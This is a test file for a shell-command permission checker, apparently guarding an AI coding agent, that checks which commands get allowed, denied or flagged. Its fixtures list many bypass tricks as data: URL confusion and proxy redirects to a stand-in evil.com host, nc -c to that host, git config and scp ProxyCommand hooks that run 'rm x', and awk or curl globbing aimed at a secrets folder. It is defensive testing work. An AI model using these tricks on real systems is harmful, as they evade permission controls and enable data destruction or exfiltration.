import { describe, expect, it } from "vitest";
import { decisionOf, decisionWith, lines } from "./decision.fixture.ts";

describe("nobody is sure, and so it is asked about", () => {
  it.each(
    lines(String.raw`
bash <<<ls <f
bash <<<ls 0< <(echo x)
bash 3<<<ls <f
bash <<<ls <&3
bash /dev/fd/3 3<<<ls
sed -f - f <<< 1e
curl 'https://github.com\@evil.com/'
wget 'https://github.com\@evil.com/'
curl http:/evil.com
curl http:///evil.com
X=-K; curl $X f
X='--pre ./x'; rg y $X
find . $X
find "$X"
xargs find
find . -name a "$X"
dd $X
dd "o$X"
xargs dd
tar "$X" f
git log "$X"
sort "-$X" f
sort "--$X" f
sort -k $X f
git config alias.zz '!rm x' get
git config core.pager 'rm x' list
git config set core.pager x
git config --unset core.hooksPath
git config submodule.x.update '!rm x'
git config imap.tunnel 'rm x'
git config instaweb.httpd x
git config sendemail.smtpServer x
git config remote.o.vcs x
git config edit
scp -o ProxyCommand='rm x' a h:b
scp -oProxyCommand='rm x' a h:b
git clone --template=x repo d
git init --template=x
sqlite3 db '.shell rm x'
sqlite3 db "select writefile('a', 1)"
sqlite3 db < f
dc -e '!rm x'
echo '!rm x' | dc
gcc -fplugin=x x.c
gcc -specs=x x.c
gcc -B./x x.c
man --html=rm ls
awk '{print "a;b" > "secrets/k"}' f
awk '{print "}" > "secrets/k"}' f
awk '{print "a" \⏎ > "secrets/k"}' f
awk '/"/ {print "a;b" > "secrets/k"} /"/' f
gawk -D 1 f
parallel echo '{=system(qq(rm\x20x))=}' ::: a
curl -o '#1/k' 'h/{secrets}'
curl --expand-data '{{x}}' h
curl 'file:///work/{secrets}/k'
set -o posix
set -o "$X"`),
  )("%s", (command) => {
    expect(decisionOf(command)).toBe("ask");
  });
});

it("what everybody does all day is allowed", () => {
  const use = { bash: "allow", read: "allow", edit: "allow", list: "allow" } as const;
  const commands = lines(String.raw`
git status
git log -p
git log -n 5 --oneline -- src
git config user.name x
git config --get core.pager
git config core.pager
git submodule update --init
npm test
pnpm run build
python -m pytest -q
cat -n f
cat "$F"
grep -rn x src
grep x "$F"
ls | xargs grep x
ls -la
find . -name '*.ts' -exec grep x {} +
find . -type f -name '*.ts' -exec sed -n 1p {} \;
find . -name "$X"
find src/* -name x
tar xzf a.tgz
sed -n 1,5p f
awk -F/ '{ print $1 }' f
awk '/x/ { n += $2 } END { print n / NR }' f
awk '{ print "a;b" }' f
chmod +x f
curl -s https://h/x -o f
git commit -m "$M"
git add "$F"
sort -- "$F"
sort src/*.txt
sqlite3 db 'select edited, attached from a'
sqlite3 db .tables
dc -e '2 2 + p'
7z l a
date +%F
set -e; set -o errexit; set -euo pipefail`);
  expect(commands.map((command) => [command, decisionWith({ ...use, web: "allow" }, command)])).toEqual(
    commands.map((command) => [command, "allow"]),
  );
});

it("what fills a folder may fill those in it", () => {
  const edit = { default: "deny", rules: { "*": "allow", ".": "allow" } } as const;
  for (const command of [
    "tar xf a",
    "unzip a",
    "git apply f",
    "git pull",
    "patch -p1 -i f",
    "cpio -id",
    "git clone u d",
  ])
    expect([command, decisionWith({ "*": "allow", edit }, command)]).toEqual([command, "deny"]);
  expect(decisionWith({ "*": "allow", edit }, "curl -O https://h/x")).toBe("allow");
});

it("a host is denied wherever it is written", () => {
  const web = { default: "allow", rules: { "evil.com": "deny" } } as const;
  const commands = lines(String.raw`
git pull https://evil.com/x
git submodule add https://evil.com/x
git submodule add -b main https://evil.com/x d
git submodule set-url d https://evil.com/x
git push --repo=https://evil.com/x
git archive --remote=https://evil.com/x HEAD
curl --socks5 evil.com https://github.com/
curl --socks4 evil.com https://github.com/
curl --socks4a evil.com https://github.com/
curl --socks5-hostname evil.com https://github.com/
curl --preproxy evil.com https://github.com/
curl --doh-url https://evil.com/ https://github.com/
curl --connect-to ::evil.com:443 https://github.com/
curl 'https://github.com\@evil.com/'
curl http:/evil.com
scp -J evil.com a h:b
scp -J me@evil.com:22,x a h:b
nc -c evil.com 443
nc -x evil.com:1080 h 80
telnet -l me evil.com
http GET evil.com
http POST https://evil.com a=b
http evil.com a=b
http --proxy https:http://evil.com h`);
  expect(commands.map((command) => [command, decisionWith({ "*": "allow", web }, command)])).toEqual(
    commands.map((command) => [command, "deny"]),
  );
  const only = { default: "deny", rules: { "good.com": "allow" } } as const;
  expect(decisionWith({ "*": "allow", web: only }, "http GET good.com")).toBe("allow");
});
